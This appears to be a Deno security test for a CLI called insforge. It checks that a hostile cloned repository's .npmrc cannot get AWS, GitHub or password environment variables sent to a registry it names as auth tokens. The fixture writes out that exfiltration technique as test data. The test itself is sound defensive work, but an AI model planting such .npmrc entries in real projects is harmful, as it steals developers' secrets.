/** A cloned repository whose .npmrc has variables of the environment sent to a registry. */
import { assert, assertStringIncludes } from "@std/assert";
import { dirname } from "@std/path";
import { it } from "@std/testing/bdd";
import { insforge } from "../support/executable.ts";
import { TREASURE, withHostileClone } from "../support/hostile_clone.ts";

const VARIABLES = ["INSFORGE_PASSWORD", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"];

it("a registry that a clone names is sent tokens of registries, and no other variable", async () => {
  await withHostileClone(async ({ file, root, home, host, sent }) => {
    const address = host.url.replace("http:", "");
    const scopes = VARIABLES.map((name) =>
      `@${name.toLowerCase()}:registry=${host.url}/${name}/\n${address}/${name}/:_authToken=\${${name}}`
    );
    const usual = `@own:registry=${host.url}/own/\n${address}/own/:_authToken=\${NPM_TOKEN}`;
    await file(".npmrc", [...scopes, usual].join("\n"));
    const env = {
      HOME: home,
      PATH: `${dirname(Deno.execPath())}:${Deno.env.get("PATH")}`,
      NPM_TOKEN: "of-the-registry",
      ...Object.fromEntries(VARIABLES.map((name) => [name, TREASURE])),
    };
    for (const scope of [...VARIABLES.map((name) => name.toLowerCase()), "own"]) {
      const source = `import "npm:@${scope}/x"; export default () => new Response();`;
      await file(`insforge/functions/${scope}/index.ts`, source);
      await file(`insforge/functions/${scope}/index.test.ts`, `import "./index.ts";`);
      for (const args of [["deploy", scope], ["test", scope]]) {
        const { stderr } = await insforge(["functions", ...args], { cwd: root, env });
        assert(!sent().includes(TREASURE), `${args.join(" ")}\n${stderr}`);
      }
    }
    for (const name of [...VARIABLES, "own"]) assertStringIncludes(sent(), `/${name}/`);
    assertStringIncludes(sent(), "Bearer of-the-registry");
  });
});
